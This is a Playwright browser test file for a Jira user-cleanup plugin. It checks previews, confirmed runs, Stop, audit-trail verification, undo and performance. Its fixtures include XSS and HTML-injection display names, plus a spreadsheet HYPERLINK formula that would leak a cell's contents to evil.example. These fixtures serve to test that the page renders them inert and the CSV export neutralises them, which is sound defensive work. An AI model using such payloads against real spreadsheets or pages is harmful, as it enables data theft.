// The Preview, Run and History views in a real browser (Debian's Chromium through playwright-core)
// against the sandbox Jira serving the app the way the JAR does: the preview equals the engine's
// plan; a run of the policy saved in Jira changes exactly the planned users; confirmation,
// over-limit refusal, Stop; the trail the page keeps in Jira passes `user-cleanup audit verify`;
// a trail that cannot be kept in Jira is used only after the admin chooses "download only"; undo
// from History lists what it restores before a typed confirmation, and restores; hostile data is
// inert on screen and neutralised in the CSV export; 100k rows stay responsive.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { appSession, SHOTS, accountStates, accountChanges, settled, adminPage as openAdminPage, parseNum, cannotRun, hostileSample, XSS_NAME, FORMULA_NAME, FORMULA_EMAIL } from './helpers.mjs';
import { createStore } from '../../plugin-shim/app/store.mjs';
import { userPropertiesOf } from '../../plugin-shim/src/sandbox/routes/properties.mjs';

const skip = cannotRun();
const ROOT = new URL('../../', import.meta.url);
const ROOT_PATH = fileURLToPath(ROOT);
const POLICY = readFileSync(new URL('samples/policy.json', ROOT), 'utf8');
const TMP = mkdtempSync(join(tmpdir(), 'uc-browser-run-'));

const hostileSnapshot = () =>
  hostileSample({ displayName: (i) => (i === 0 ? FORMULA_NAME : `${XSS_NAME} ${i}`), groups: ['jira-software-users', 'contractors'] });

// LDAP read-only "with local groups": the read-only fallback (licence groups) can succeed. The
// storage account (inactive, no application access) with the sample policy saved, as the Rules
// view leaves them: the page runs only the policy saved in Jira.
const app = appSession(
  () => ({ snapshot: hostileSnapshot(), localGroups: ['jira-*-users'] }),
  async () => {
    assert.equal((await store().createAccount()).ok, true);
    await savePolicy(POLICY);
  },
);

const adminPage = (viewport) => openAdminPage(app.browser, app.sb.url, { viewport, acceptDownloads: true });
const store = () => createStore({ baseUrl: app.sb.url, token: app.sb.token });

/** Saves a policy in Jira as the Rules view does. */
async function savePolicy(text) {
  const s = store();
  const current = await s.loadPolicy();
  await s.savePolicy(text, { savedBy: 'admin', expectRevision: current.revision ?? 0 });
}

/** The trail stored in Jira, written to a file (for `audit verify`): {path, text, records}. */
async function storedTrail(name = 'from-jira.jsonl') {
  const t = await store().loadAudit();
  const path = join(TMP, name);
  writeFileSync(path, t.text);
  return { path, text: t.text, records: t.records };
}

/** Undo from History: open the confirmation, check it lists the users, type their number, confirm. */
async function undoFromHistory(page, runId, user) {
  const card = page.locator(`.uc-run-card[data-run-id="${runId}"]`);
  await card.locator(user === undefined ? '[data-undo="run"]' : `[data-undo-user="${user}"]`).click();
  const confirm = card.locator('.uc-undo-confirm');
  await confirm.locator('.uc-undo-list, [role="alert"]').first().waitFor();
  const listed = await confirm.locator('.uc-undo-list li').evaluateAll((l) => l.map((x) => x.dataset.user));
  assert.ok(listed.length > 0, `the undo lists its users: ${await confirm.textContent()}`);
  if (user !== undefined) assert.deepEqual(listed, [user]);
  assert.equal(await confirm.locator('[data-undo-confirm]').isDisabled(), true, 'not before the number is typed');
  await confirm.locator('[data-undo-input]').fill(String(listed.length + 1));
  assert.equal(await confirm.locator('[data-undo-confirm]').isDisabled(), true, 'not with a wrong number');
  await confirm.locator('[data-undo-input]').fill(String(listed.length));
  await page.evaluate(() => document.getElementById('uc-undo-finished')?.remove());
  await confirm.locator('[data-undo-confirm]').click();
  await page.waitForSelector('#uc-undo-finished');
  return listed;
}

async function openView(page, view, query = '') {
  await page.goto(`${app.sb.appUrl}${query}#user-cleanup/${view}`);
  assert.equal(await settled(page), 'ready');
}

/** The engine's plan over the sandbox as it is now, computed in Node through the host adapter. */
async function expectedPlan(policy = POLICY) {
  const engine = await import(new URL('plugin-shim/src/engine.mjs', ROOT).href);
  const { createJiraHost } = await import(new URL('plugin-shim/src/host/index.mjs', ROOT).href);
  // As the page reads it: creation dates from the audit log, open issues counted for the planned users.
  const host = createJiraHost({ baseUrl: app.sb.url, token: app.sb.token });
  const snap = await host.snapshot({ creationDates: true });
  const policyText = typeof policy === 'string' ? policy : JSON.stringify(policy);
  const { result } = await host.planWithOpenAssigned({ engine, policyText, snapshot: snap, options: { asOf: snap.capturedAt, actor: 'admin' } });
  const plan = typeof result === 'string' ? JSON.parse(result) : result;
  assert.equal(plan.type, 'success');
  return plan.value;
}

const lc = (s) => String(s).toLowerCase();
const records = (text) => text.split('\n').filter(Boolean).map((l) => JSON.parse(l));
const verify = (path) => spawnSync(process.execPath, [join(ROOT_PATH, 'plugin-shim/bin/user-cleanup.mjs'), 'audit', 'verify', path], { encoding: 'utf8' });

async function downloaded(page, click) {
  const [dl] = await Promise.all([page.waitForEvent('download'), click()]);
  const path = join(TMP, dl.suggestedFilename());
  await dl.saveAs(path);
  return { path, text: readFileSync(path, 'utf8'), name: dl.suggestedFilename() };
}

test('preview: the sample policy\u2019s plan as the engine makes it; filter, search, sort, keyboard; hostile data inert; CSV neutralised', { skip: skip || false }, async () => {
  const plan = await expectedPlan();
  const { page, errors } = await adminPage();
  await openView(page, 'preview');
  const count = async (k) => parseNum(await page.textContent(`#uc-preview-summary [data-count="${k}"]`));
  assert.equal(await count('actions'), plan.counts.actions);
  for (const k of ['deactivate', 'removeFromGroups', 'review']) assert.equal(await count(k), plan.counts.byAction[k] ?? 0, k);
  assert.equal(await count('protected'), plan.counts.protected);
  assert.equal(await page.textContent('#uc-preview-shown'), `${plan.counts.actions.toLocaleString('en-GB')} actions`);
  // Virtualised: far fewer rows in the DOM than actions.
  const domRows = await page.locator('#uc-actions-grid .uc-vgrid-row:not([hidden])').count();
  assert.ok(domRows > 5 && domRows < 40, `rows in DOM: ${domRows}`);
  await page.screenshot({ path: `${SHOTS}preview.png`, fullPage: true });

  // First rows: the engine's order and reasons.
  const rowText = (pos) => page.$eval(`#uc-actions-grid .uc-vgrid-row[data-pos="${pos}"]`, (r) => Object.fromEntries([...r.children].map((c) => [c.dataset.key, c.textContent])));
  for (const pos of [0, 1, 2]) {
    const r = await rowText(pos);
    assert.equal(r.user, plan.actions[pos].user);
    assert.equal(r.rule, plan.actions[pos].rule);
    assert.equal(r.reasons, plan.actions[pos].reasons.join('; '));
  }
  // Keyboard: focus the grid, ArrowDown twice → the detail pane shows the third action's reasons.
  await page.focus('#uc-actions-grid .uc-vgrid-scroll');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('ArrowDown');
  const third = plan.actions[2];
  assert.equal(await page.textContent('#uc-action-detail .uc-message-title'), third.user);
  assert.deepEqual(await page.$$eval('#uc-action-detail .uc-reasons li', (l) => l.map((x) => x.textContent)), third.reasons);
  await page.keyboard.press('End');
  assert.equal(await page.textContent('#uc-action-detail .uc-message-title'), plan.actions.at(-1).user);

  // Filter by rule and action.
  const rule = Object.keys(plan.counts.byRule)[0];
  await page.selectOption('#uc-filter-rule', rule);
  assert.equal(await page.textContent('#uc-preview-shown'), `${plan.counts.byRule[rule]} of ${plan.counts.actions.toLocaleString('en-GB')} actions`);
  await page.selectOption('#uc-filter-rule', '');
  await page.selectOption('#uc-filter-action', 'removeFromGroups');
  assert.equal(parseNum((await page.textContent('#uc-preview-shown')).split(' of ')[0]), plan.counts.byAction.removeFromGroups);
  const acts = await page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden]) [data-key="action"]', (c) => c.map((x) => x.textContent));
  assert.ok(acts.every((a) => a.startsWith('Remove from groups')), acts.join('|'));
  await page.selectOption('#uc-filter-action', '');
  // Search by user, by name, by email.
  const search = async (q) => {
    await page.fill('#uc-filter-search', q);
    await page.waitForTimeout(150);
    return page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden])', (r) => r.map((x) => x.dataset.user));
  };
  assert.deepEqual(await search(third.user), plan.actions.filter((a) => lc(a.user).includes(lc(third.user)) || lc(a.displayName ?? '').includes(lc(third.user)) || lc(a.email ?? '').includes(lc(third.user))).map((a) => a.user));
  assert.deepEqual((await search('evil-<b>bold')).sort(), ['mallory0', 'mallory1', 'mallory2']);
  // Hostile strings are text.
  const names = await page.$$eval('#uc-actions-grid .uc-vgrid-row:not([hidden]) [data-key="displayName"]', (c) => c.map((x) => x.textContent));
  assert.ok(names.includes(`${XSS_NAME} 1`) && names.includes(FORMULA_NAME), names.join('|'));
  assert.equal(await page.locator('#user-cleanup img, #user-cleanup b').count(), 0);
  await page.screenshot({ path: `${SHOTS}preview-hostile.png` });
  // CSV export of the filtered rows: formulas neutralised, quoting right.
  const csv = await downloaded(page, () => page.click('#uc-export-csv'));
  const lines = csv.text.split('\r\n');
  // The plan's columns, then the impact columns (and any added later, e.g. warnings).
  assert.ok(lines[0].startsWith('user,display_name,email,rule,action,groups,reasons,last_login,days_inactive,created,matched_groups,email_domain,directory,status,blocked_reason,handover,leads,open_assigned'), lines[0]);
  const m0 = lines.find((l) => l.startsWith('mallory0,'));
  assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/"",""Click me"")"`), m0);
  assert.ok(m0.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")@evil-<b>bold</b>.example"`), m0);
  assert.ok(!lines.slice(1).some((l) => /(^|,)[=+@-]/.test(l)), 'no cell starts with a formula character');
  await page.fill('#uc-filter-search', '');
  await page.waitForTimeout(150);
  // Sort by days inactive (descending first), then ascending.
  await page.click('#uc-actions-grid [role="columnheader"][data-key="daysInactive"] button');
  assert.equal(await page.getAttribute('#uc-actions-grid [role="columnheader"][data-key="daysInactive"]', 'aria-sort'), 'descending');
  const maxDays = Math.max(...plan.actions.map((a) => a.facts.daysInactive ?? -1));
  assert.equal(parseNum((await rowText(0)).daysInactive), maxDays);
  await page.click('#uc-actions-grid [role="columnheader"][data-key="user"] button');
  assert.equal((await rowText(0)).user, [...plan.actions].sort((a, b) => (lc(a.user) < lc(b.user) ? -1 : 1))[0].user);
  // JSON export: the engine's plan.
  const json = await downloaded(page, () => page.click('#uc-export-json'));
  assert.deepEqual(JSON.parse(json.text).counts, plan.counts);
  // Protected users and licence impact.
  assert.ok(await page.locator('#uc-protected-table tbody tr').count() > 0);
  for (const l of plan.licence) {
    const freed = await page.$eval(`#uc-licence-table`, (t, name) => [...t.tBodies[0].rows].find((r) => r.cells[0].textContent === name)?.querySelector('[data-key="seatsFreed"]').textContent, l.name);
    assert.equal(parseNum(freed), l.seatsFreed, l.role);
  }
  assert.equal(await page.evaluate(() => globalThis.__pwned), undefined);
  assert.deepEqual(errors, []);
});

test('run: over the limit is refused with no run button', { skip: skip || false }, async () => {
  const { page, errors } = await adminPage();
  const over = JSON.parse(POLICY);
  over.limits.maxActionsPerRun = 10;
  await savePolicy(JSON.stringify(over));
  await openView(page, 'run');
  await savePolicy(POLICY);
  assert.match(await page.textContent('#uc-run-refused'), /over the policy\u2019s limit/);
  assert.match(await page.textContent('#uc-run-refused'), /at most 10 per run/);
  assert.equal(await page.locator('#uc-run-start').count(), 0);
  await page.screenshot({ path: `${SHOTS}run-refused.png`, fullPage: true });
  assert.deepEqual(errors, []);
});

test('run: a plan older than limits.maxSnapshotAgeMinutes is refused with Refresh data, which reads the users again and re-plans', { skip: skip || false }, async () => {
  const before = accountStates(app.sb);
  const { page, errors } = await adminPage();
  await page.clock.install(); // time flows; fastForward jumps it
  await openView(page, 'run');
  const n = parseNum(await page.textContent('#uc-run-executable'));
  await page.fill('#uc-run-confirm-input', String(n));
  // The admin leaves the confirmed plan open for two hours, then starts it.
  await page.clock.fastForward('02:00:00');
  await page.click('#uc-run-start');
  await page.waitForSelector('#uc-run-expired');
  assert.match(await page.textContent('#uc-run-expired'), /60 \(limits\.maxSnapshotAgeMinutes\)|maxSnapshotAgeMinutes/);
  assert.deepEqual(accountChanges(before, accountStates(app.sb)), new Map(), 'nothing changed');
  const refused = (await storedTrail('expired.jsonl')).records.filter((r) => r.type === 'runRefused');
  assert.equal(refused.at(-1)?.reason, 'planExpired', 'the refusal is in the trail');
  // Refresh data: the users are read again and the plan is new, so it may run.
  await page.click('#uc-run-refresh');
  await page.waitForSelector('#uc-run-confirm-input');
  assert.equal(await settled(page), 'ready');
  assert.equal(await page.locator('#uc-run-expired').count(), 0);
  assert.equal(parseNum(await page.textContent('#uc-run-executable')), n);
  assert.deepEqual(errors, []);
  await page.context().close();
});

test('run: Stop finishes the requests in flight, starts nothing new, the trail records it; undo of the stopped run restores', { skip: skip || false }, async () => {
  const before = accountStates(app.sb);
  const plan = await expectedPlan();
  const n = plan.counts.executable; // what the admin confirms (blocked writes are not changes)
  const total = plan.actions.filter((a) => a.action !== 'review' && !a.status).length; // items the run goes through (blocked ones never run)
  const { page, errors } = await adminPage();
  // Slow writes so that Stop lands mid-run.
  await page.route('**/rest/api/2/{user,group/user}**', async (r) => {
    if (r.request().method() !== 'GET') await new Promise((res) => setTimeout(res, 60));
    await r.continue();
  });
  await openView(page, 'run');
  await page.fill('#uc-run-confirm-input', String(n));
  await page.click('#uc-run-start');
  await page.waitForFunction(() => document.querySelectorAll('#uc-run-results tbody tr').length >= 12);
  await page.click('#uc-run-stop');
  await page.waitForSelector('#uc-run-finished', { timeout: 60_000 });
  assert.equal(await page.getAttribute('#uc-run-finished', 'data-stopped'), 'true');
  const runId = await page.getAttribute('#uc-run-finished', 'data-run-id');
  const trail = await storedTrail('stopped.jsonl');
  const recs = trail.records.filter((r) => r.runId === runId);
  const outcomes = recs.filter((r) => r.type === 'outcome');
  const intents = recs.filter((r) => r.type === 'intent');
  assert.ok(outcomes.length >= 12 && outcomes.length < total, `stopped after ${outcomes.length} of ${total}`);
  // Every intent has its outcome (in-flight requests finished), nothing started after the stop.
  for (const i of intents) assert.ok(outcomes.some((o) => o.item === i.item), `intent ${i.item} has an outcome`);
  const stopAt = recs.findIndex((r) => r.type === 'runStopped');
  assert.ok(stopAt > 0 && recs.slice(stopAt + 1).every((r) => r.type === 'runFinished'));
  const fin = recs.at(-1);
  assert.equal(fin.type, 'runFinished');
  assert.equal(fin.stopped, true);
  assert.equal(fin.totals.notStarted + outcomes.length, total);
  assert.equal(await page.locator('#uc-run-results tbody tr').count(), outcomes.length);
  // Exactly the users with a done outcome changed, as their effects say.
  const changed = accountChanges(before, accountStates(app.sb));
  const done = outcomes.filter((o) => o.status === 'done');
  assert.deepEqual([...changed.keys()].sort(), done.map((o) => lc(o.user)).sort());
  const v = verify(trail.path);
  assert.equal(v.status, 0, v.stdout + v.stderr);
  await page.screenshot({ path: `${SHOTS}run-stopped.png`, fullPage: true });

  // History (same page session): the stopped run, verified; undo it → the sandbox is as before.
  await page.click('#uc-tab-history');
  await page.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
  assert.equal(await page.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
  assert.equal(await page.getAttribute(`.uc-run-card[data-run-id="${runId}"]`, 'data-state'), 'stopped');
  await undoFromHistory(page, runId);
  assert.deepEqual(accountChanges(before, accountStates(app.sb)), new Map());
  assert.deepEqual(errors, []);
});

test('run: typed confirmation; exactly the planned users change; trail passes audit verify; History undo per user and per run restores', { skip: skip || false }, async () => {
  const before = accountStates(app.sb);
  const plan = await expectedPlan();
  // Writes the engine does not block (a blocked one, e.g. deactivating a project lead, is not a change).
  const writes = plan.actions.filter((a) => a.action !== 'review');
  const executable = writes.filter((a) => a.status !== 'blocked');
  const blockedUsers = new Set(writes.filter((a) => a.status === 'blocked').map((a) => lc(a.user)));
  const n = executable.length;
  assert.equal(n, plan.counts.executable);
  const { page, errors } = await adminPage();
  await openView(page, 'run');
  assert.equal(parseNum(await page.textContent('#uc-run-executable')), n);
  await page.screenshot({ path: `${SHOTS}run-confirm.png`, fullPage: true });
  // Wrong numbers keep the button disabled.
  for (const wrong of ['', String(n - 1), String(n + 1), 'all', `${n}0`]) {
    await page.fill('#uc-run-confirm-input', wrong);
    assert.equal(await page.isDisabled('#uc-run-start'), true, `"${wrong}" must not enable the run`);
  }
  await page.fill('#uc-run-confirm-input', String(n));
  assert.equal(await page.isDisabled('#uc-run-start'), false);
  assert.equal(await page.getAttribute('#uc-run-trail-where', 'data-kept'), 'jira');
  let downloads = 0;
  page.on('download', () => downloads++);
  const t0 = Date.now();
  await page.click('#uc-run-start');
  await page.waitForSelector('#uc-run-finished', { timeout: 120_000 });
  assert.match(await page.textContent('#uc-run-trail'), /The audit trail is saved in Jira\./);
  assert.equal(downloads, 0, 'nothing downloaded when Jira keeps the trail');
  const runIdShown = await page.getAttribute('#uc-run-finished', 'data-run-id');
  const trail = await storedTrail('run.jsonl');
  console.log(`# run from the page: ${n} actions in ${Date.now() - t0} ms`);
  await page.screenshot({ path: `${SHOTS}run-finished.png`, fullPage: true });
  const recs = trail.records.filter((r) => r.runId === runIdShown);
  const runId = recs.find((r) => r.type === 'runStarted').runId;
  const started = recs.find((r) => r.type === 'runStarted');
  assert.deepEqual(JSON.parse(started.policy.text), JSON.parse(POLICY), 'the run stores the policy saved in Jira');
  assert.equal(started.who.actor, 'admin');
  assert.match(started.policy.hash, /^[0-9a-f]{64}$/);
  const planned = recs.find((r) => r.type === 'planned');
  assert.deepEqual(planned.items.map((i) => i.user), plan.actions.map((a) => a.user));
  const outcomes = new Map(recs.filter((r) => r.type === 'outcome').map((o) => [lc(o.user), o]));
  // Every executable planned user has an outcome; nobody else.
  assert.deepEqual([...outcomes.keys()].filter((u) => !blockedUsers.has(u)).sort(), executable.map((a) => lc(a.user)).sort());
  // A blocked write is never carried out (the engine's decide skips it, or Jira refuses it).
  for (const u of blockedUsers) if (outcomes.has(u)) assert.notEqual(outcomes.get(u).status, 'done', `${u} is blocked`);
  const failed = [...outcomes.values()].filter((o) => o.status === 'failed');
  console.log(`# outcomes: ${[...outcomes.values()].filter((o) => o.status === 'done').length} done, ${failed.length} failed, ${[...outcomes.values()].filter((o) => o.status === 'skipped').length} skipped; fallbacks ${[...outcomes.values()].filter((o) => o.fallback).length}`);
  // The sandbox changed for exactly the users with a done outcome, and exactly as recorded.
  const changed = accountChanges(before, accountStates(app.sb));
  assert.deepEqual([...changed.keys()].sort(), [...outcomes.values()].filter((o) => o.status === 'done').map((o) => lc(o.user)).sort());
  for (const [user, c] of changed) {
    const o = outcomes.get(user);
    const a = executable.find((x) => lc(x.user) === user);
    assert.equal(c.deactivated, Boolean(o.effects.deactivated), user);
    assert.deepEqual(c.removed, (o.effects.groupsRemoved ?? []).map(lc).sort(), user);
    assert.deepEqual(c.added, []);
    if (a.action === 'removeFromGroups') assert.deepEqual(c.removed, a.groups.map(lc).sort(), user);
    if (a.action === 'deactivate' && !o.fallback) assert.equal(c.deactivated, true, user);
  }
  // Per-user results on screen match.
  assert.equal(await page.locator('#uc-run-results tbody tr').count(), outcomes.size);
  const v = verify(trail.path);
  assert.equal(v.status, 0, v.stdout + v.stderr);
  assert.match(v.stdout + v.stderr, /intact|ok|verified/i);

  // History: undo one user, then the rest of the run.
  await page.click('#uc-tab-history');
  await page.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
  const one = [...changed.keys()][0];
  const oneName = outcomes.get(one).user;
  await page.click(`.uc-run-card[data-run-id="${runId}"] summary`);
  await undoFromHistory(page, runId, oneName);
  const afterOne = accountChanges(before, accountStates(app.sb));
  assert.equal(afterOne.has(one), false, 'the one user is restored');
  assert.equal(afterOne.size, changed.size - 1);
  const listed = await undoFromHistory(page, runId);
  assert.equal(listed.length, changed.size - 1, 'the rest of the run, every user listed');
  await page.waitForFunction((id) => [...document.querySelectorAll('#uc-history-runs .uc-run-card[data-run-id^="undo-"]')].length >= 2, runId);
  assert.deepEqual(accountChanges(before, accountStates(app.sb)), new Map(), 'everything restored');
  assert.equal(await page.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
  await page.screenshot({ path: `${SHOTS}history.png`, fullPage: true });
  // The whole trail (run + two undos), downloaded from History, verifies with the CLI too.
  const all = await downloaded(page, () => page.click('#uc-history-download'));
  assert.equal(verify(all.path).status, 0);
  assert.deepEqual(records(all.text).filter((r) => r.type === 'undoStarted' && r.undoOf === runId).map((r) => r.undoOf), [runId, runId]);
  assert.equal(all.text, (await storedTrail()).text, 'the page\u2019s trail is the one stored in Jira');
  // A fresh page reads the same trail from Jira; importing the file shows the same runs, and a
  // tampered copy is flagged.
  const p2 = (await adminPage()).page;
  await openView(p2, 'history');
  await p2.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
  assert.match(await p2.textContent('#uc-history-status'), /stored in Jira/);
  await p2.setInputFiles('#uc-history-import', all.path);
  await p2.waitForSelector(`.uc-run-card[data-run-id="${runId}"]`);
  assert.equal(await p2.getAttribute('#uc-history-status [data-chain]', 'data-chain'), 'ok');
  const tampered = join(TMP, 'tampered.jsonl');
  writeFileSync(tampered, all.text.replace('"status":"done"', '"status":"failed"'));
  await p2.setInputFiles('#uc-history-import', tampered);
  await p2.waitForSelector('#uc-history-status [data-chain="broken"]');
  assert.equal(await p2.locator('[data-undo="run"]:not([disabled])').count(), 0);
  assert.deepEqual(errors, []);
});

test('preview: 100k planned actions stay responsive (virtualised grid)', { skip: skip || false }, async () => {
  const { page, errors } = await adminPage();
  await page.goto(`${app.sb.url}/download/resources/com.usercleanup.jira:assets/app/index.html?policy=none#user-cleanup/history`);
  await settled(page);
  const m = await page.evaluate(async (N) => {
    const base = new URL('./', location.href);
    const { renderPreview } = await import(new URL('preview.mjs', base).href);
    const rules = ['contractors-idle-60d', 'partners-idle-30d', 'internal-never-used', 'staff-review'];
    const kinds = ['deactivate', 'removeFromGroups', 'deactivate', 'review'];
    const actions = Array.from({ length: N }, (_, i) => ({
      user: `user${String(i).padStart(6, '0')}`, displayName: `User ${i}`, email: `user${i}@ext${i % 97}.example`,
      rule: rules[i % 4], action: kinds[i % 4], ...(kinds[i % 4] === 'removeFromGroups' ? { groups: ['jira-software-users'] } : {}),
      reasons: [`member of group-${i % 50}`, `last login 2026-0${1 + (i % 9)}-01, ${30 + (i % 900)} days ago (threshold 30 days)`],
      facts: { lastLogin: `2026-0${1 + (i % 9)}-01T00:00:00Z`, daysInactive: 30 + (i % 900), created: null, matchedGroups: [`group-${i % 50}`], emailDomain: `ext${i % 97}.example`, directory: null },
    }));
    const plan = { asOf: '2026-11-27T00:00:00Z', actions, protected: [], licence: [], overLimit: false, limit: { maxActionsPerRun: null },
      counts: { users: N, activeUsers: N, actions: N, executable: N * 0.75, byAction: { deactivate: N / 2, removeFromGroups: N / 4, review: N / 4 }, byRule: {}, protected: 0 } };
    const panel = document.getElementById('uc-panel');
    panel.replaceChildren();
    const ctx = {
      data: { snapshot: async () => ({ snap: { users: [] } }), plan: async () => ({ result: { type: 'success', value: plan, warnings: [] }, ms: 0 }), savedPolicy: async () => ({ text: '{}' }) },
      state: () => {}, timings: {}, runnerBase: new URL('../runner/', base), me: null,
    };
    const t0 = performance.now();
    await renderPreview(panel, ctx);
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
    const firstPaint = performance.now() - t0;
    const sc = panel.querySelector('.uc-vgrid-scroll');
    // Scroll 5,000 rows in 50 steps, one frame each.
    const frames = [];
    for (let k = 1; k <= 50; k++) {
      const f0 = performance.now();
      sc.scrollTop = k * 100 * 32;
      await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
      frames.push(performance.now() - f0);
    }
    const firstUser = sc.querySelector('.uc-vgrid-row[data-pos="5000"]')?.dataset.user;
    const s0 = performance.now();
    panel.querySelector('[data-key="daysInactive"] button').click();
    const sortMs = performance.now() - s0;
    const q = panel.querySelector('#uc-filter-search');
    const f0 = performance.now();
    q.value = 'user09999';
    q.dispatchEvent(new Event('input'));
    await new Promise((r) => setTimeout(r, 200));
    const searchMs = performance.now() - f0 - 150; // minus the debounce
    return {
      firstPaint: Math.round(firstPaint), scrollFrameAvg: +(frames.reduce((a, b) => a + b, 0) / frames.length).toFixed(1), scrollFrameMax: Math.round(Math.max(...frames)),
      rowsInDom: sc.querySelectorAll('.uc-vgrid-row').length, firstUser, sortMs: Math.round(sortMs), searchMs: Math.round(searchMs),
      shown: panel.querySelector('#uc-preview-shown').textContent,
    };
  }, 100_000);
  console.log(`# preview, 100k actions: first paint ${m.firstPaint} ms; scrolling 5,000 rows in 50 steps: ${m.scrollFrameAvg} ms/frame avg (two rAFs), max ${m.scrollFrameMax} ms; ${m.rowsInDom} rows in the DOM; sort ${m.sortMs} ms; search ${m.searchMs} ms`);
  assert.equal(m.firstUser, 'user005000');
  assert.ok(m.rowsInDom < 60, `${m.rowsInDom} rows in the DOM`);
  assert.ok(m.firstPaint < 3000, `first paint ${m.firstPaint} ms`);
  assert.ok(m.scrollFrameMax < 200, `slowest scroll frame ${m.scrollFrameMax} ms`);
  assert.match(m.shown, /^10 of 100,000 actions$/);
  await page.screenshot({ path: `${SHOTS}preview-100k.png` });
  assert.deepEqual(errors, []);
});

test('a trail in Jira that does not verify is never extended: the run starts only after "keep the trail as a download only", and the download verifies', { skip: skip || false }, async () => {
  const before = accountStates(app.sb);
  const small = JSON.parse(POLICY);
  small.rules = small.rules.filter((r) => r.id === 'external-idle-90d');
  await savePolicy(JSON.stringify(small));
  // A run stored in Jira (the chain continued as the page does it), then someone edits it.
  const stored = await store().loadAudit();
  const chain = await import(new URL('plugin-shim/src/runner/chain.mjs', ROOT).href);
  const runRec = await chain.seal({ at: '2026-11-27T09:59:00Z', runId: 'run-20261127T095900Z-edited', type: 'runStarted', who: { actor: 'admin', jiraUser: 'admin', operator: null } }, stored.records.at(-1) ?? null);
  await store().appendAudit([runRec]);
  const key = 'com.usercleanup.audit.run-20261127T095900Z-edited.00001';
  const chunk = userPropertiesOf(app.sb.state, 'user-cleanup').get(key);
  const edited = chunk.text.replace('"actor":"admin"', '"actor":"admiN"'); // same length: within Jira's limit
  assert.notEqual(edited, chunk.text);
  await store().putProp(key, { ...chunk, text: edited });
  const keysBefore = [...userPropertiesOf(app.sb.state, 'user-cleanup').keys()].sort();
  try {
    const { page, errors } = await adminPage();
    await openView(page, 'run');
    assert.equal(await page.getAttribute('#uc-run-trail-where', 'data-kept'), 'none');
    assert.match(await page.textContent('#uc-run-trail-where'), /does not verify/);
    const n = parseNum(await page.textContent('#uc-run-executable'));
    await page.fill('#uc-run-confirm-input', String(n));
    assert.equal(await page.isDisabled('#uc-run-start'), true, 'the right number alone does not start it');
    await page.check('#uc-run-download-only');
    assert.equal(await page.isDisabled('#uc-run-start'), false);
    const trail = await downloaded(page, async () => {
      await page.click('#uc-run-start');
      await page.waitForSelector('#uc-run-finished', { timeout: 60_000 });
    });
    const v = verify(trail.path);
    assert.equal(v.status, 0, v.stdout + v.stderr);
    assert.ok(records(trail.text).some((r) => r.type === 'runFinished'));
    assert.deepEqual([...userPropertiesOf(app.sb.state, 'user-cleanup').keys()].sort(), keysBefore, 'nothing was written to the broken trail in Jira');
    assert.notDeepEqual(accountChanges(before, accountStates(app.sb)), new Map());
    // History of this page: the broken stored trail is reported; undo needs the same choice.
    await page.click('#uc-tab-history');
    await page.waitForSelector('#uc-history-not-stored');
    assert.deepEqual(errors, []);
  } finally {
    await store().putProp(key, chunk);
    await savePolicy(POLICY);
  }
});
